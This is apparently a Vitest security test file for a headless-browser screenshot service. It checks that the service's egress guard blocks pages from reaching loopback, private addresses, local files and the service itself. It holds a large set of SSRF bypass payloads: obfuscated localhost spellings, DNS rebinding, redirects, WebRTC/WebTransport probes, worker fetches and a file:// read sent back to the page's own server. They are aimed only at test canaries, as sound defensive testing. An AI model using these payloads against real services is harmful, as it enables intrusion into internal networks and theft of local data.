// @module-tag browser

import { createSocket } from 'node:dgram'
import { once } from 'node:events'
import { writeFile } from 'node:fs/promises'
import { homedir } from 'node:os'
import { join } from 'node:path'
import { setTimeout as sleep } from 'node:timers/promises'
import { chromium } from 'playwright-core'
import { afterAll, beforeAll, beforeEach, describe, expect, onTestFinished, test, vi } from 'vitest'
import { projectPath, statusPath } from '../../src/contract/paths.ts'
import { isFinal, type RootStatus } from '../../src/contract/status.ts'
import type { Lookup } from '../../src/egress/guard.ts'
import {
  type CameraRules,
  findBrowsers,
  type Handler,
  HTML,
  openTestCamera,
  paint,
  readCommand,
  readPixels,
  type Site,
  serveSite,
  socketsOf,
  type TestCamera,
} from '../support/camera.ts'
import { PATIENCE_MS } from '../support/patience.ts'
import { freePort } from '../support/ports.ts'
import { makeProject } from '../support/results.ts'
import { startService } from '../support/service.ts'
import { prepareTestBrowser } from '../support/test-browser.ts'
import { makeFolder } from '../support/workspace.ts'

// All traffic of the browser passes the guard, and no page reaches a private address. A site that is allowed by name and
// port tries everything to make a real browser talk to this machine. Canaries listen there and count what arrives.

/** Where the canaries sit, all on one port. */
const CAGES = ['127.0.0.1', '127.0.0.2', '::1']
/** Stands for a public address: it is allowed, and no canary. */
const PUBLIC = '127.0.0.9'
/** A secure context without a certificate, so that pages may use all there is. */
const ATTACKER = 'attack.localhost'

interface Canary {
  readonly port: number
  /** Paths that were asked for, from whichever address. */
  readonly asked: Set<string>
  connections(): number
  datagrams: number
  reset(): void
  close(): Promise<void>
}

async function openCanary(): Promise<Canary> {
  const sing: Handler = (answer) =>
    void answer
      .writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/plain' })
      .end('tweet')
  const first = await serveSite({ '*': sing }, { host: CAGES[0] })
  const { port } = first
  const others = await Promise.all(CAGES.slice(1).map((host) => serveSite({ '*': sing }, { host, port })))
  const sites = [first, ...others]
  const sockets = CAGES.map((host) => createSocket(host.includes(':') ? 'udp6' : 'udp4'))
  for (const [index, socket] of sockets.entries()) {
    socket.on('message', () => canary.datagrams++)
    await once(socket.bind(port, CAGES[index]), 'listening')
  }
  const canary: Canary = {
    port,
    get asked() {
      return new Set(sites.flatMap((site) => site.asked))
    },
    connections: () => sites.reduce((sum, site) => sum + site.connections, 0),
    datagrams: 0,
    reset() {
      for (const site of sites) {
        site.asked.length = 0
        site.connections = 0
      }
      canary.datagrams = 0
    },
    async close() {
      await Promise.all(sites.map((site) => site.close()))
      for (const socket of sockets) socket.close()
    },
  }
  return canary
}

let canary: Canary
let site: Site
/** On the canaries' port, where only this one may be visited. */
let neighbour: Site
/** What pages told their own site. */
let told: Map<string, string>
/** Resolves when all that a page tries has been tried. Where nothing may come of it, nobody can tell: then for a while. */
let held: () => Promise<unknown>
/** Whose pages are being served, where that matters. */
let attacked: TestCamera | undefined

beforeAll(async () => {
  canary = await openCanary()
  site = await serveSite(attacks())
  neighbour = await serveSite(
    { '*': paint('#00ff00', `<img src="/again"><script>fetch('/more')</script>`) },
    {
      host: PUBLIC,
      port: canary.port,
    },
  )
})
afterAll(async () => {
  await Promise.all([canary, site, neighbour].map((one) => one.close()))
})
beforeEach(() => {
  canary.reset()
  told = new Map()
  held = () => sleep(1_500)
})

const names: Record<string, readonly string[]> = {
  'private.test': ['127.0.0.1'],
  'private6.test': ['::1'],
  'mapped.test': ['::ffff:127.0.0.1'],
  // Nobody listens at the first one, and the second must not be tried instead.
  'mixed.test': ['127.0.0.10', '127.0.0.1', '127.0.0.2'],
  'public.test': [PUBLIC],
}
const lookup: Lookup = async (name) => {
  const known =
    names[name] ?? (name === 'localhost' || name.endsWith('.localhost') ? ['127.0.0.1'] : undefined)
  if (!known) throw Object.assign(new Error('no such name'), { code: 'ENOTFOUND' })
  return known
}
const allowed = () => `${ATTACKER}:${site.port},${PUBLIC},127.0.0.10`

function openAttackedCamera(rules: CameraRules = {}): TestCamera {
  const camera = openTestCamera({ allow: allowed(), lookup, ...rules })
  onTestFinished(() => camera.close())
  return camera
}

/** One that lets the browser get to the canaries: what it does not reach now, it never tried. */
const openControl = () =>
  openAttackedCamera({
    allow: `${allowed()},127.0.0.0/8,::1,localhost,*.localhost,private.test,private6.test`,
  })

const SPELLINGS = [
  '127.0.0.1',
  '127.0.0.2',
  '127.1',
  '127.0.1',
  '2130706433',
  '0x7f000001',
  '0x7F.1',
  '017700000001',
  '0177.0.0.1',
  '0177.0x0.0.01',
  '127.0.0.1.',
  '127.0.0.0x1.',
  '%31%32%37.0.0.1',
  '１２７.０.０.１',
  '①②⑦.⓪.⓪.①',
  '127。0。0。1',
  '127．0．0．1',
  'localhost',
  'LOCALHOST',
  'localhost.',
  'a.localhost',
  'ⓛⓞⓒⓐⓛⓗⓞⓢⓣ',
  '0.0.0.0',
  '0',
  '[::]',
  '[::1]',
  '[0:0:0:0:0:0:0:1]',
  '[0000::0001]',
  '[::127.0.0.1]',
  '[::ffff:127.0.0.1]',
  '[::FFFF:7F00:1]',
  '[0:0:0:0:0:ffff:127.0.0.1]',
  '[::ffff:0:127.0.0.1]',
  '[64:ff9b::127.0.0.1]',
  '[2002:7f00:1::]',
  'user:password@127.0.0.1',
]
const NAMES = Object.keys(names).filter((name) => name !== 'public.test')

const REDIRECTS = [301, 302, 303, 307, 308]

function attacks(): Record<string, string | Handler> {
  const cage = (name: string, scheme = 'http') => `${scheme}://127.0.0.1:${canary.port}/${name}`
  const page =
    (html: () => string, headers: () => Record<string, string> = () => ({})): Handler =>
    (answer) =>
      void answer.writeHead(200, { ...HTML, ...headers() }).end(html())
  // Long enough for all of it to be tried.
  const hold = '<img src=/hold>'
  return {
    '/hold': async (answer) => {
      await held()
      answer.writeHead(404).end()
    },
    // Whatever a page can find out of a name, and draw.
    '/curious': page(
      () => `<iframe src="http://secret.test/"></iframe><iframe src="https://secret.test/"></iframe><pre></pre><script>
      const listen = (what, good, ...bad) => new Promise((resolve) => {
        what['on' + good] = () => resolve('reached')
        for (const name of bad) what['on' + name] = ({ type, code, wasClean }) => resolve([type, code, wasClean].join())
      })
      const ways = {
        fetch: (url) => fetch(url, { mode: 'no-cors' }).then(() => 'reached', String),
        image: (url) => { const image = new Image(); image.src = url; return listen(image, 'load', 'error') },
        xhr: (url) => {
          const xhr = new XMLHttpRequest()
          xhr.open('GET', url)
          xhr.send()
          return listen(xhr, 'load', 'error', 'timeout', 'abort').then((said) => [said, xhr.status, xhr.readyState].join())
        },
        socket: (url) => listen(new WebSocket(url.replace('http', 'ws')), 'open', 'close'),
      }
      const all = Object.entries(ways).flatMap(([way, ask]) => ['http', 'https'].map(async (scheme) =>
        [way + ' ' + scheme, await ask(scheme + '://secret.test/' + way)]))
      Promise.all(all).then((said) => {
        const seen = performance.getEntriesByType('resource').filter(({ name }) => name.includes('secret.test'))
          .map(({ name, initiatorType, responseStatus, nextHopProtocol, transferSize, domainLookupStart, connectStart,
            requestStart, responseStart }) => [name, initiatorType, responseStatus, nextHopProtocol, transferSize,
            domainLookupStart > 0, connectStart > 0, requestStart > 0, responseStart > 0].join()).sort().join(' ')
        const found = [...said, ['timing', seen]]
        document.querySelector('pre').textContent = found.join('\\n')
        for (const [name, value] of found) fetch('/tell?' + new URLSearchParams({ [name]: value }))
      })</script>`,
    ),
    '/tell': (answer, _, url) => {
      for (const [name, value] of url.searchParams) told.set(name, value)
      answer.writeHead(204).end()
    },
    '/redirect': (answer, _, url) =>
      void answer
        .writeHead(Number(url.searchParams.get('status')), { location: url.searchParams.get('to') ?? '' })
        .end(),
    '/refresh-header': page(
      () => 'moving',
      () => ({ refresh: `0; url=${cage('refresh-header')}` }),
    ),
    '/meta-refresh': page(() => `<meta http-equiv=refresh content="0; url=${cage('meta-refresh')}">`),
    '/location': page(() => `<script>location = '${cage('location')}'</script>`),
    '/form': page(
      () => `<form method=post action="${cage('form')}"><input name=a value=b></form>
        <script>document.forms[0].submit()</script>`,
    ),
    '/click': page(
      () => `<a id=a href="${cage('click')}" ping="${cage('ping')}">a</a><script>a.click()</script>`,
    ),
    '/markup': page(
      () => `${hold}
        <link rel=stylesheet href="${cage('style')}"><link rel=icon href="${cage('icon')}">
        <link rel=prefetch href="${cage('prefetch')}"><link rel=preconnect href="${cage('')}">
        <link rel=dns-prefetch href="//private.test:${canary.port}"><link rel=prerender href="${cage('prerender')}">
        <link rel=preload as=image href="${cage('preload')}"><link rel=modulepreload href="${cage('modulepreload')}">
        <link rel=manifest href="${cage('manifest')}">
        <style>@import "${cage('import')}"; @font-face { font-family: f; src: url(${cage('font')}) }
          body { font-family: f; background: url(${cage('background')}); cursor: url(${cage('cursor')}), auto }
          li { list-style-image: url(${cage('list')}) } p::before { content: url(${cage('content')}) }
          div { width: 9px; height: 9px; mask-image: url(${cage('mask')}); filter: url(${cage('filter')}#a) }</style>
        <ul><li>a</ul><p>text</p><div></div>
        <img src="${cage('image')}" srcset="${cage('srcset')} 2x"><img srcset="${cage('srcset1')} 1x">
        <picture><source srcset="${cage('source')}"><img></picture>
        <svg><image href="${cage('svg')}" /><use href="${cage('use')}#a" /></svg>
        <input type=image src="${cage('input')}"><table background="${cage('table')}"><tr><td>a</table>
        <script src="${cage('script')}"></script><script type=module src="${cage('module')}"></script>
        <iframe src="${cage('iframe')}"></iframe><object data="${cage('object')}"></object><embed src="${cage('embed')}">
        <frame src="${cage('frame')}"><iframe srcdoc="<img src='${cage('srcdoc')}'>"></iframe>
        <iframe src="data:text/html,<img src='${cage('data')}'>"></iframe>
        <iframe src="/meta-refresh"></iframe><iframe src="/refresh-header"></iframe><iframe src="/location"></iframe>
        <iframe src="/form"></iframe><iframe src="/click"></iframe><iframe src="/csp"></iframe>
        ${REDIRECTS.map(
          (status) => `<iframe src="/redirect?status=${status}&to=${cage(`redirect-${status}`)}"></iframe>
          <img src="/redirect?status=${status}&to=${cage(`image-redirect-${status}`)}">`,
        ).join('')}
        <video src="${cage('video')}" poster="${cage('poster')}" autoplay muted></video>
        <video autoplay><source src="${cage('video-source')}"><track default src="${cage('track')}"></video>
        <audio src="${cage('audio')}" autoplay></audio>
        <script type=speculationrules>${JSON.stringify({
          prefetch: [{ urls: [cage('speculation-prefetch')], eagerness: 'immediate' }],
          prerender: [{ urls: [cage('speculation-prerender')], eagerness: 'immediate' }],
        })}</script>`,
      () => ({ link: `<${cage('link-header')}>; rel=preload; as=image` }),
    ),
    '/csp': page(
      () => `<img src="/blocked-by-policy">`,
      () => ({
        'content-security-policy': `img-src 'none'; report-uri ${cage('csp')}`,
        'content-security-policy-report-only': `script-src 'none'; img-src 'none'; report-to default`,
        'reporting-endpoints': `default="${cage('reporting')}"`,
        'report-to': JSON.stringify({ max_age: 99, endpoints: [{ url: cage('report-to') }] }),
        nel: JSON.stringify({ report_to: 'default', max_age: 99, success_fraction: 1, failure_fraction: 1 }),
        'x-dns-prefetch-control': 'on',
      }),
    ),
    '/scripts': page(
      () => `${hold}<script>
        const P = ${canary.port}, cage = (name, scheme = 'http') => scheme + '://127.0.0.1:' + P + '/' + name
        const tell = (name, value) => fetch('/tell?' + new URLSearchParams({ [name]: value }))
        const attempt = (work) => { try { Promise.resolve(work()).catch(() => {}) } catch {} }
        const inWorker = (code) => URL.createObjectURL(new Blob([code], { type: 'text/javascript' }))
        attempt(() => fetch(cage('fetch')).then((r) => r.text()).then((text) => tell('fetch', text), () => tell('fetch', 'failed')))
        attempt(() => fetch(cage('fetch-opaque'), { mode: 'no-cors', method: 'POST', body: 'a' }))
        attempt(() => fetch(cage('fetch-preflight'), { method: 'PUT', headers: { 'x-a': '1' } }))
        attempt(() => fetch(cage('fetch-keepalive'), { keepalive: true }))
        attempt(() => fetch('/redirect?status=307&to=' + cage('fetch-redirect'), { method: 'POST', body: 'a' }))
        attempt(() => { const x = new XMLHttpRequest(); x.open('GET', cage('xhr')); x.send() })
        attempt(() => { const x = new XMLHttpRequest(); x.open('GET', cage('xhr-sync'), false); x.send() })
        attempt(() => navigator.sendBeacon(cage('beacon'), 'a'))
        attempt(() => new WebSocket(cage('socket', 'ws')))
        attempt(() => new WebSocket(cage('socket-tls', 'wss')))
        attempt(() => new WebSocketStream(cage('socket-stream', 'ws')).opened)
        attempt(() => new EventSource(cage('events')))
        attempt(() => new Worker(cage('worker')))
        attempt(() => new Worker(inWorker(\`fetch('\${cage('from-worker')}'); importScripts('\${cage('worker-import')}')\`)))
        attempt(() => new Worker(inWorker(\`new WebSocket('\${cage('worker-socket', 'ws')}')\`)))
        attempt(() => new SharedWorker('/shared.js'))
        attempt(() => navigator.serviceWorker.register('/service.js'))
        attempt(() => ServiceWorkerContainer.prototype.register.call(navigator.serviceWorker, '/service.js'))
        attempt(() => import(cage('dynamic-import')))
        attempt(() => { open(cage('open')); open('/location'); open('about:blank').location = cage('open-later') })
        attempt(() => { new Image().src = cage('new-image') })
        attempt(() => new FontFace('g', 'url(' + cage('font-face') + ')').load())
        attempt(() => CSS.paintWorklet.addModule(cage('worklet')))
        attempt(() => new AudioContext().audioWorklet.addModule(cage('audio-worklet')))
        attempt(() => { const f = document.createElement('iframe')
          f.src = URL.createObjectURL(new Blob(['<img src="' + cage('blob') + '">'], { type: 'text/html' }))
          document.documentElement.append(f) })
        attempt(() => { const o = document.createElement('link'); o.rel = 'preconnect'; o.href = cage(''); document.head.append(o) })
        attempt(() => fetchLater(cage('later'), { activateAfter: 0 }))
        attempt(() => navigator.sharedStorage?.worklet.addModule(cage('shared-storage')))
      </script>`,
    ),
    '/shared.js': (answer) =>
      void answer
        .writeHead(200, { 'content-type': 'text/javascript' })
        .end(`fetch('${cage('from-shared')}'); try { importScripts('${cage('shared-import')}') } catch {}`),
    '/service.js': (answer) =>
      void answer
        .writeHead(200, { 'content-type': 'text/javascript' })
        .end(
          `self.oninstall = (event) => event.waitUntil(fetch('${cage('from-service')}')); fetch('${cage('service-top')}')`,
        ),
    // Everything that would go around a proxy, over UDP or on connections of its own.
    '/datagrams': page(
      () => `${hold}<script>
        const P = ${canary.port}
        const attempt = (work) => { try { Promise.resolve(work()).catch(() => {}) } catch {} }
        const account = { username: 'a', credential: 'b' }
        const hosts = ['127.0.0.1', '[::1]', 'localhost', '127.0.0.2', 'private.test', 'unknown.test']
        for (const iceTransportPolicy of ['all', 'relay']) attempt(async () => {
          const peer = new RTCPeerConnection({ iceTransportPolicy, iceServers: hosts.flatMap((host) => [
            { urls: 'stun:' + host + ':' + P },
            { urls: 'turn:' + host + ':' + P + '?transport=udp', ...account },
            { urls: 'turn:' + host + ':' + P + '?transport=tcp', ...account },
            { urls: 'turns:' + host + ':' + P + '?transport=tcp', ...account },
          ]) })
          peer.createDataChannel('a')
          await peer.setLocalDescription(await peer.createOffer())
        })
        attempt(async () => {
          const [one, other] = [new RTCPeerConnection(), new RTCPeerConnection()]
          one.createDataChannel('a')
          await one.setLocalDescription(await one.createOffer())
          await other.setRemoteDescription(one.localDescription)
          await other.setLocalDescription(await other.createAnswer())
          await one.setRemoteDescription(other.localDescription)
          for (const host of ['127.0.0.1', '127.0.0.2', '::1', 'private.test', 'unknown.local']) for (const peer of [one, other]) {
            for (const kind of ['udp 2113937151 ' + host + ' ' + P + ' typ host',
              'tcp 1518280447 ' + host + ' ' + P + ' typ host tcptype passive']) {
              attempt(() => peer.addIceCandidate({ sdpMid: '0', sdpMLineIndex: 0, candidate: 'candidate:1 1 ' + kind }))
            }
          }
        })
        for (const host of hosts) {
          attempt(() => new WebTransport('https://' + host + ':' + P + '/transport').ready)
          attempt(() => new WebTransport('https://' + host + ':' + P + '/hashed', { serverCertificateHashes: [
            { algorithm: 'sha-256', value: new Uint8Array(32) }] }).ready)
        }
        attempt(() => new TCPSocket('127.0.0.1', P).opened)
        attempt(() => new UDPSocket({ remoteAddress: '127.0.0.1', remotePort: P }).opened)
      </script>`,
      () => ({ 'alt-svc': `h3="127.0.0.1:${canary.port}"; ma=99, h2="127.0.0.1:${canary.port}"` }),
    ),
    '/spelled': page(
      () =>
        `${hold}${[...SPELLINGS, ...NAMES]
          .map((host, index) =>
            ['http', 'https', 'ftp']
              .map((scheme) => `<img src="${scheme}://${host}:${canary.port}/spelled-${index}">`)
              .join(''),
          )
          .join('')}`,
    ),
    '/gate': page(() => {
      const [gate] = attacked?.gates ?? []
      const { port } = new URL(gate?.proxyUrl ?? '')
      return `<script>
        const direct = 'http://127.0.0.1:${port}/', via = 'http://127.0.0.1:${canary.port}/via-gate'
        const tell = (name, value) => fetch('/tell?' + new URLSearchParams({ [name]: value }))
        for (const url of [direct, direct + via, 'http://localhost:${port}/', 'http://[::1]:${port}/' + via]) {
          fetch(url, { mode: 'no-cors' }).then(() => tell(url, 'reached'), () => tell(url, 'failed'))
        }
        const socket = new WebSocket('ws://127.0.0.1:${port}/')
        socket.onopen = () => tell('socket', 'reached')
        socket.onerror = () => tell('socket', 'failed')
        </script><img src="http://127.0.0.1:${port}/"><iframe src="http://127.0.0.1:${port}/"></iframe>`
    }),
  }
}

const at = (path: string) => `http://${ATTACKER}:${site.port}${path}`

function expectSilence(): void {
  expect([...canary.asked]).toEqual([])
  expect({ connections: canary.connections(), datagrams: canary.datagrams }).toEqual({
    connections: 0,
    datagrams: 0,
  })
}

/** What a capture came to: a picture, or the reason why there is none. */
async function outcome(shot: Promise<unknown>): Promise<string> {
  return await shot.then(
    () => 'taken',
    (error) => error.reason ?? String(error),
  )
}

describe('as the captured address itself', () => {
  const captured = [...SPELLINGS, ...NAMES].filter((host) => URL.canParse(`http://${host}/`))

  test('no spelling of this machine, and no name that leads to it, is captured', async () => {
    expect(captured.length).toBeGreaterThan(35)
    const camera = openAttackedCamera()
    const results = await Promise.all(
      captured.flatMap((host, index) =>
        // By https the same checks are met by another request, CONNECT, on another way.
        (index % 4 === 0 || NAMES.includes(host) ? ['http', 'https'] : ['http']).map(async (scheme) => {
          const url = `${scheme}://${host}:${canary.port}/`
          return [url, await outcome(camera.take(url, { loadingTime: 10_000 }))]
        }),
      ),
    )
    const refused = ['blocked', 'refused']
    expect(results.filter(([, result = '']) => !refused.includes(result))).toEqual([])
    // Of all of them only the one whose first address is allowed was tried, there.
    expect(
      results.filter(([, result]) => result === 'refused').map(([url = '']) => new URL(url).hostname),
    ).toEqual(['mixed.test', 'mixed.test'])
    expectSilence()
  })

  test('where it is allowed, every one of them is a picture of the canary', async () => {
    const camera = openControl()
    // Nobody answers at the unspecified address by a name, nor at those that only hold the address of another kind.
    const hosts = [
      '127.1',
      '2130706433',
      '017700000001',
      '①②⑦.⓪.⓪.①',
      'localhost.',
      'a.localhost',
      '[::1]',
      'private.test',
    ]
    const results = await Promise.all(
      hosts.map((host, index) => outcome(camera.take(`http://${host}:${canary.port}/${index}`))),
    )
    expect(results).toEqual(hosts.map(() => 'taken'))
    expect(canary.asked.size).toBeGreaterThanOrEqual(hosts.length)
  })

  test('what is no web address is not captured', async () => {
    const folder = await makeFolder()
    await writeFile(join(folder, 'secret.html'), paint('#ff0000'))
    const camera = openAttackedCamera()
    const urls = ['file', 'view-source:file', 'FILE', ' file'].map(
      (scheme) => `${scheme}://${folder}/secret.html`,
    )
    for (const url of [
      ...urls,
      `ftp://127.0.0.1:${canary.port}/`,
      `ws://127.0.0.1:${canary.port}/`,
      'chrome://gpu',
    ]) {
      expect([url, await outcome(camera.take(url))]).toEqual([url, 'blocked'])
    }
    expectSilence()
  })
})

describe('from inside a page', () => {
  const PAGES = ['/markup', '/scripts', '/spelled', '/csp', '/datagrams']
  const LEAVING = ['/refresh-header', '/meta-refresh', '/location', '/form', '/click']

  /** Everything at once; afterwards every context is closed, and what is sent at the end of a page was sent. */
  async function attack(camera: TestCamera, loadingTime: number, signal?: AbortSignal): Promise<string[]> {
    const redirects = REDIRECTS.map(
      (status) => `/redirect?status=${status}&to=http://127.0.0.1:${canary.port}/captured-redirect-${status}`,
    )
    const shots = [...PAGES, ...LEAVING, ...redirects].map(async (path) =>
      outcome(camera.take(at(path), { loadingTime, fullPage: true }, signal)),
    )
    const results = await Promise.all(shots)
    await sleep(300)
    return results
  }

  test('nothing reaches this machine', async () => {
    const results = await attack(openAttackedCamera(), 10_000)
    expect(results.slice(0, PAGES.length)).toEqual(PAGES.map(() => 'taken'))
    expect(results.slice(PAGES.length)).toEqual(results.slice(PAGES.length).map(() => 'blocked'))
    expectSilence()
    expect(told.get('fetch')).toBe('failed')
  })

  test('nothing does either where the environment tells Playwright to let loopback be', async () => {
    onTestFinished(() => void vi.unstubAllEnvs())
    vi.stubEnv('PLAYWRIGHT_DISABLE_FORCED_CHROMIUM_PROXIED_LOOPBACK', '1')
    const camera = openAttackedCamera()
    await camera.take(at('/spelled'))
    expectSilence()
  })

  test('where it is allowed, the same pages do reach it: every way was tried', async () => {
    const missing = () => WAYS.filter((way) => !canary.asked.has(`/${way}`))
    const over = new AbortController()
    onTestFinished(() => over.abort())
    held = async () => {
      while (missing().length > 0 && !over.signal.aborted) await sleep(50)
    }
    // Some have enough to do for as long as they may.
    const attacking = attack(openControl(), PATIENCE_MS, over.signal)
    await expect.poll(missing).toEqual([])
    await expect.poll(() => told.get('fetch')).toBe('tweet')
    over.abort('called off')
    const results = await attacking
    expect(results.filter((result) => !['taken', 'called off'].includes(result))).toEqual([])
  })
})

/** What Chromium asks for where it may. What else is tried has reasons of its own to stay silent. */
const WAYS = [
  ...REDIRECTS.flatMap((status) => ['', 'image-', 'captured-'].map((by) => `${by}redirect-${status}`)),
  ...`refresh-header meta-refresh location form click csp
    style prefetch preload modulepreload import font background cursor list content mask link-header
    image srcset1 source svg input table script module iframe object embed srcdoc data
    video poster video-source audio fetch fetch-opaque fetch-preflight fetch-keepalive fetch-redirect later
    xhr xhr-sync beacon socket socket-stream events from-worker worker-import worker-socket from-shared shared-import
    dynamic-import new-image font-face blob worklet audio-worklet`.split(/\s+/),
  // But for those that nobody answers at.
  ...[...SPELLINGS, ...NAMES].flatMap((host, index) =>
    /^0|\[::\]|ff|\[::127|2002|@|mapped/i.test(host) && !/^0[x1]/i.test(host) ? [] : [`spelled-${index}`],
  ),
]

describe('around the proxy', () => {
  test('a browser without our arguments does send datagrams, and opens connections of its own', async () => {
    const prepared = await prepareTestBrowser()
    const browser = await chromium.launch({ ...prepared, chromiumSandbox: false })
    onTestFinished(() => browser.close())
    const page = await browser.newPage()
    await page.goto(at('/datagrams'))
    await expect.poll(() => canary.datagrams > 0 && canary.connections() > 0).toBe(true)
  })

  test('there is nothing: every socket of the browser leads to its gates', async () => {
    const before = new Set(findBrowsers())
    const camera = openAttackedCamera()
    const seen = new Set<string>()
    const watching = setInterval(() => {
      for (const browser of findBrowsers()) {
        // Ones that lead nowhere are made by WebRTC, and never used: see the datagrams of the canary.
        const own = before.has(browser) ? [] : socketsOf(browser).filter((socket) => !socket.endsWith(':0'))
        for (const socket of own) seen.add(socket)
      }
    }, 15)
    try {
      await Promise.all(
        ['/datagrams', '/scripts', '/markup'].map((path) => camera.take(at(path), { loadingTime: 4_000 })),
      )
    } finally {
      clearInterval(watching)
    }
    const gates = camera.gatePorts.map((port) => `tcp 127.0.0.1:${port}`)
    expect(gates.filter((gate) => seen.has(gate))).toEqual(gates)
    expect([...seen].filter((socket) => !gates.includes(socket))).toEqual([])
    expectSilence()
  })

  test('there is a second line, which nothing gets as far as', async () => {
    const before = new Set(findBrowsers())
    await openAttackedCamera().ready()
    const [browser = Number.NaN] = findBrowsers().filter((pid) => !before.has(pid))
    const command = readCommand(browser)
    for (const given of [
      '--proxy-server=http://127.0.0.1:9 ',
      '--proxy-bypass-list=<-loopback> ',
      '--host-resolver-rules=MAP * ~NOTFOUND , EXCLUDE 127.0.0.1 ',
      '--disable-quic ',
      '--no-pings ',
    ]) {
      expect(command).toContain(` ${given}`)
    }
  })

  test('the way out itself cannot be addressed', async () => {
    attacked = openAttackedCamera()
    expect(await outcome(attacked.take(at('/gate')))).toBe('taken')
    expect(told.size).toBe(5)
    expect([...told.values()]).toEqual(['failed', 'failed', 'failed', 'failed', 'failed'])
    expectSilence()
  })
})

describe('a name', () => {
  test('that is private is to a page, and in its picture, what one is that does not exist', async () => {
    let isPrivate = true
    const secret: Lookup = async (name) =>
      name === 'secret.test' && isPrivate ? ['10.0.0.5'] : await lookup(name)
    const camera = openAttackedCamera({ lookup: secret })
    const look = async () => {
      told = new Map()
      const { bytes, seen } = await camera.take(at('/curious'))
      return { bytes, seen, told: [...told].sort() }
    }
    const shownPrivate = await look()
    isPrivate = false
    const shownUnknown = await look()
    expect(shownPrivate.told.length).toBe(9)
    expect(shownPrivate.told.filter(([, said]) => said.includes('reached'))).toEqual([])
    expect(shownUnknown.told).toEqual(shownPrivate.told)
    expect(shownUnknown.seen).toEqual(shownPrivate.seen)
    expect(shownUnknown.bytes.equals(shownPrivate.bytes)).toBe(true)
  })

  test('that changes its answer between look-ups is never visited at what was not checked', async () => {
    let lookups = 0
    const rebinding: Lookup = async (name) =>
      name === 'rebound.test' ? [lookups++ % 2 === 0 ? PUBLIC : '127.0.0.1'] : await lookup(name)
    const camera = openAttackedCamera({ lookup: rebinding })
    const before = neighbour.connections
    const url = `http://rebound.test:${canary.port}/`
    const results = await Promise.all([1, 2, 3, 4].map(() => outcome(camera.take(url))))
    expect(results).toContain('taken')
    expect(neighbour.connections).toBeGreaterThan(before)
    // Pages, their pictures and what their scripts fetch: each is looked up by itself.
    expect(lookups).toBeGreaterThan(4)
    expectSilence()
  })
})

test('files of this machine are in no picture', async () => {
  const folder = await makeFolder()
  const secret = `file://${folder}/secret.html`
  await writeFile(join(folder, 'secret.html'), paint('#ff0000'))
  const page = await serveSite({
    '/': paint(
      '#00ff00',
      `<style>@import "${secret}"; iframe, object, embed { position: fixed; inset: 0; width: 100%; height: 100% }</style>
      <iframe src="${secret}"></iframe><object data="${secret}"></object><embed src="${secret}">
      <iframe src="view-source:${secret}"></iframe><iframe src="/to-file"></iframe>
      <script>for (const url of ['${secret}', 'view-source:${secret}', 'chrome://version', 'about:version']) {
        try { open(url) } catch {} ; try { location = url } catch {}
        fetch(url).then((r) => r.text()).then((text) => fetch('/got?' + text)).catch(() => {}) }</script>`,
    ),
    '/to-file': (answer) => void answer.writeHead(302, { location: secret }).end(),
  })
  onTestFinished(() => page.close())
  const camera = openAttackedCamera({ allow: `${ATTACKER}:${page.port}` })
  const { bytes } = await camera.take(`http://${ATTACKER}:${page.port}/`, { loadingTime: 3_000 })
  const shown = await readPixels(bytes)
  const colours = new Set([5, 200, 600, 1100].flatMap((x) => [5, 300, 700].map((y) => shown.at(x, y))))
  expect(colours).not.toContain('#ff0000')
  expect(page.asked).not.toContain('/got')
  expect(await outcome(camera.take(`http://${ATTACKER}:${page.port}/to-file`))).not.toBe('taken')
})

describe('the service', () => {
  test('is not reachable from the pages that it captures, by its browser as it is found', async () => {
    /** Captures a page that asks the service, and the service itself; answers how that ended, and what was asked. */
    const captureWith = async (allow: (site: number, service: number) => string) => {
      const port = await freePort()
      const inside = await serveSite({
        '/': paint(
          '#00ff00',
          `<script>for (const host of ['127.0.0.1', 'localhost', '[::1]', '0.0.0.0']) {
            const url = 'http://' + host + ':${port}/secret'
            new Image().src = url
            fetch(url, { mode: 'no-cors' }).then(() => fetch('/reached'), () => fetch('/failed'))
          }</script>`,
        ),
        '/reached': '',
        '/failed': '',
      })
      onTestFinished(() => inside.close())
      const service = await startService({
        PORT: String(port),
        CAPTURE_ALLOW: allow(inside.port, port),
        PATH: process.env['PATH'] ?? '',
        HOME: homedir(),
      })
      const projectId = await makeProject(service.store)
      const urls = [`http://localhost:${inside.port}/`, `${service.url}/secret`]
      const asked = await fetch(`${service.url}${projectPath(projectId)}`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({
          screenshotParameter: { width: 300, height: 200 },
          urls: urls.map((url) => ({ url, name: url, loadingTime: 15_000 })),
        }),
      })
      expect(asked.status).toBe(201)
      const { jobId } = (await asked.json()) as { jobId: string }
      let status: RootStatus
      do {
        await sleep(50)
        status = (await (await service.get(statusPath(projectId, jobId))).json()) as RootStatus
      } while (!isFinal(status.state))
      return {
        outcomes: status.urls.map(({ state, reason }) => reason ?? state),
        requests: service.logLines.filter((line) => line.includes('/secret')).length,
        logged: service.logLines.some((line) =>
          line.includes('"reason":"blocked","detail":"127.0.0.1 is a loop'),
        ),
        told: inside.asked.filter((path) => /reached|failed/.test(path)),
      }
    }
    const [attack, control] = await Promise.all([
      captureWith((inside) => `localhost:${inside}`),
      captureWith((inside, service) => `localhost:${inside},127.0.0.1:${service}`),
    ])
    expect(attack).toEqual({
      outcomes: ['done', 'blocked'],
      requests: 0,
      logged: true,
      told: ['/failed', '/failed', '/failed', '/failed'],
    })
    expect(control.outcomes).toEqual(['done', 'done'])
    expect(control.told).toContain('/reached')
    expect(control.requests).toBeGreaterThan(0)
  })
})
